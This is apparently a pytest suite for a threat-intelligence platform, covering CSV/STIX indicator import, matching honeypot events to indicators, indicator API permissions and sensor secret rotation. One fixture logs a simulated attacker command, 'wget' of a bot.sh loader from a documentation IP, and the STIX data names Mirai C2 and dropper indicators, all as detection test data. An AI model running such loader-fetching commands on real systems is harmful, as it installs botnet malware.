"""Threat-intelligence indicators (CSV and STIX 2.1 import, matching) and sensor management."""

import json

import pytest
import stix2

from incidents.ingest import secrets
from incidents.models import Indicator, Sensor, Threat
from organizations.models import AuditEvent

pytestmark = pytest.mark.django_db

INDICATORS = "/api/v1/intelligence/indicators"
CSV = """type,value,source,confidence,expires_at
ip,203.0.113.77,abuse-feed,90,
cidr,198.51.100.0/28,abuse-feed,60,
domain,Evil.Example.,abuse-feed,80,
sha256,C0FFEE00C0FFEE00C0FFEE00C0FFEE00C0FFEE00C0FFEE00C0FFEE00C0FFEE00,sandbox,95,
ip,192.0.2.99,old-feed,50,2001-01-01T00:00:00Z
"""


def stix_bundle() -> dict:
    indicators = [
        stix2.Indicator(
            name="Mirai C2",
            pattern="[ipv4-addr:value = '203.0.113.198']",
            pattern_type="stix",
            valid_from="2026-01-01T00:00:00Z",
            confidence=85,
        ),
        stix2.Indicator(
            name="Loader URL",
            pattern="[url:value = 'http://203.0.113.50/bot.sh'] OR [domain-name:value = 'bad.example']",
            pattern_type="stix",
            valid_from="2026-01-01T00:00:00Z",
        ),
        stix2.Indicator(
            name="Dropper",
            pattern="[file:hashes.'SHA-256' = '" + "ab" * 32 + "']",
            pattern_type="stix",
            valid_from="2026-01-01T00:00:00Z",
        ),
    ]
    return json.loads(stix2.Bundle(objects=indicators).serialize())


def import_(client, fmt, content, **extra):
    return client.post(f"{INDICATORS}/import", {"format": fmt, "content": content, **extra}, format="json")


class TestImport:
    def test_csv_import_normalises_values(self, client_a, org_a):
        response = import_(client_a, "csv", CSV)
        assert response.status_code == 201, response.content
        assert response.json()["data"] == {"created": 5, "updated": 0}
        values = dict(
            Indicator.objects.for_organization(org_a).values_list("type", "value").order_by("type")[:3]
        )
        assert values["domain"] == "evil.example"
        sha = Indicator.objects.for_organization(org_a).get(type="sha256")
        assert sha.value == "c0ffee00" * 8
        assert sha.confidence == 95
        assert sha.source == "sandbox"
        assert import_(client_a, "csv", CSV).json()["data"] == {"created": 0, "updated": 5}

    def test_one_bad_csv_row_imports_nothing(self, client_a, org_a):
        response = import_(client_a, "csv", CSV + "ip,999.1.1.1,x,10,\n")
        assert response.status_code == 400
        assert response.json()["error"]["details"]["errors"][0]["row"] == 7
        assert not Indicator.objects.for_organization(org_a).exists()

    def test_stix_bundle_import(self, client_a, org_a):
        response = import_(client_a, "stix", stix_bundle(), source="isac")
        assert response.status_code == 201, response.content
        assert response.json()["data"]["created"] == 4
        mirai = Indicator.objects.for_organization(org_a).get(value="203.0.113.198")
        assert (mirai.type, mirai.confidence, mirai.source, mirai.description) == (
            "ip",
            85,
            "isac",
            "Mirai C2",
        )
        assert mirai.stix_id.startswith("indicator--")
        assert set(Indicator.objects.for_organization(org_a).values_list("type", flat=True)) == {
            "ip",
            "url",
            "domain",
            "sha256",
        }

    def test_a_malformed_stix_bundle_is_refused(self, client_a, org_a):
        response = import_(
            client_a, "stix", {"type": "bundle", "id": "bundle--nope", "objects": [{"type": "indicator"}]}
        )
        assert response.status_code == 400
        assert response.json()["error"]["code"] == "VALIDATION_ERROR"
        assert not Indicator.objects.for_organization(org_a).exists()


class TestMatching:
    def test_events_matching_indicators_raise_threats(self, client_a, org_a, sensor_a, run_detection):
        import_(client_a, "stix", stix_bundle())
        import_(client_a, "csv", CSV)
        from tests.incidents.conftest import cowrie_events

        run_detection(lambda: sensor_a.post("/api/v1/ingest/cowrie", cowrie_events()))
        intel = Threat.objects.for_organization(org_a).filter(threat_type="threat_intel_match")
        sources = {t.source_ip: t for t in intel}
        assert set(sources) == {"203.0.113.77", "203.0.113.198"}
        assert sources["203.0.113.77"].severity == "critical"  # confidence 90
        assert sources["203.0.113.198"].severity == "high"  # confidence 85
        assert Indicator.objects.for_organization(org_a).get(value="203.0.113.77").hits > 0

    def test_cidr_url_and_expired_indicators(self, client_a, org_a):
        import_(client_a, "csv", CSV)
        import_(client_a, "stix", stix_bundle())
        inside = client_a.post(
            "/api/v1/detect", {"log_entry": {"src_ip": "198.51.100.5", "action": "dns"}}, format="json"
        )
        assert inside.json()["data"]["threat_type"] == "threat_intel_match"
        expired = client_a.post(
            "/api/v1/detect", {"log_entry": {"src_ip": "192.0.2.99", "action": "dns"}}, format="json"
        )
        assert expired.json()["data"]["threat_detected"] is False
        url = {
            "eventid": "cowrie.command.input",
            "timestamp": "2026-11-22T08:00:00Z",
            "src_ip": "192.0.2.7",
            "input": "wget http://203.0.113.50/bot.sh",
        }
        verdict = client_a.post("/api/v1/detect", {"log_entry": url}, format="json").json()["data"]
        assert "Threat intelligence match: url http://203.0.113.50/bot.sh" in verdict["matched_rules"]


class TestIndicatorApi:
    def test_crud_validation_tenancy_and_roles(self, client_a, client_b, viewer_client, org_a):
        bad = client_a.post(INDICATORS, {"type": "ip", "value": "nope"}, format="json")
        assert bad.status_code == 400
        created = client_a.post(
            INDICATORS, {"type": "domain", "value": "Bad.Example", "confidence": 70}, format="json"
        )
        assert created.status_code == 201
        assert created.json()["data"]["value"] == "bad.example"
        indicator_id = created.json()["data"]["id"]
        assert (
            client_a.post(INDICATORS, {"type": "domain", "value": "bad.example"}, format="json").status_code
            == 409
        )
        assert client_b.get(f"{INDICATORS}/{indicator_id}").status_code == 404
        assert client_b.delete(f"{INDICATORS}/{indicator_id}").status_code == 404
        assert viewer_client.get(INDICATORS).json()["meta"]["pagination"]["total"] == 1
        assert (
            viewer_client.post(INDICATORS, {"type": "ip", "value": "192.0.2.1"}, format="json").status_code
            == 403
        )
        assert (
            viewer_client.post(
                f"{INDICATORS}/import", {"format": "csv", "content": CSV}, format="json"
            ).status_code
            == 403
        )
        assert (
            client_a.get(f"{INDICATORS}?type=domain&min_confidence=60").json()["meta"]["pagination"]["total"]
            == 1
        )
        assert (
            client_a.patch(f"{INDICATORS}/{indicator_id}", {"confidence": 10}, format="json").json()["data"][
                "confidence"
            ]
            == 10
        )
        assert client_a.delete(f"{INDICATORS}/{indicator_id}").status_code == 204
        assert not Indicator.objects.for_organization(org_a).exists()


class TestSensors:
    def test_the_secret_is_shown_once_and_stored_encrypted(self, client_a, org_a):
        response = client_a.post("/api/v1/sensors", {"name": "edge-1", "kind": "sshd"}, format="json")
        assert response.status_code == 201
        secret = response.json()["data"]["secret"]
        sensor = Sensor.objects.for_organization(org_a).get()
        assert secret not in sensor.secret_encrypted
        assert secrets.decrypt(sensor.secret_encrypted) == secret
        detail = client_a.get(f"/api/v1/sensors/{sensor.pk}").json()["data"]
        assert "secret" not in detail
        assert AuditEvent.objects.for_organization(org_a).filter(action="sensor.created").exists()

    def test_rotating_the_secret_invalidates_the_old_one(self, client_a, sensor_a):
        sensor_id = sensor_a.sensor.pk
        new = client_a.post(f"/api/v1/sensors/{sensor_id}/rotate-secret").json()["data"]["secret"]
        assert (
            sensor_a.post("/api/v1/ingest/cowrie", [{"eventid": "cowrie.session.connect"}]).status_code == 401
        )
        sensor_a.secret = new
        assert (
            sensor_a.post("/api/v1/ingest/cowrie", [{"eventid": "cowrie.session.connect"}]).status_code == 202
        )

    def test_duplicate_names_and_bad_kinds_are_refused(self, client_a, sensor_a, org_a):
        assert (
            client_a.post(
                "/api/v1/sensors", {"name": "honeypot-01", "kind": "cowrie"}, format="json"
            ).status_code
            == 409
        )
        assert (
            client_a.post("/api/v1/sensors", {"name": "x", "kind": "windows"}, format="json").status_code
            == 400
        )
        assert Sensor.objects.for_organization(org_a).count() == 1

    def test_tenancy_and_roles(self, client_b, viewer_client, sensor_a):
        sensor_id = sensor_a.sensor.pk
        assert client_b.get(f"/api/v1/sensors/{sensor_id}").status_code == 404
        assert client_b.post(f"/api/v1/sensors/{sensor_id}/rotate-secret").status_code == 404
        assert viewer_client.get(f"/api/v1/sensors/{sensor_id}").status_code == 200
        assert (
            viewer_client.post("/api/v1/sensors", {"name": "y", "kind": "web"}, format="json").status_code
            == 403
        )
        assert viewer_client.post(f"/api/v1/sensors/{sensor_id}/rotate-secret").status_code == 403
        assert viewer_client.delete(f"/api/v1/sensors/{sensor_id}").status_code == 403

    def test_batches_show_detection_status(self, client_a, sensor_a, run_detection):
        run_detection(
            lambda: sensor_a.post(
                "/api/v1/ingest/cowrie",
                [{"eventid": "cowrie.session.connect", "timestamp": "2026-11-22T08:00:00Z"}],
            )
        )
        batch = client_a.get("/api/v1/ingest/batches").json()["data"][0]
        assert (batch["status"], batch["accepted"], batch["endpoint"]) == ("done", 1, "ingest/cowrie")
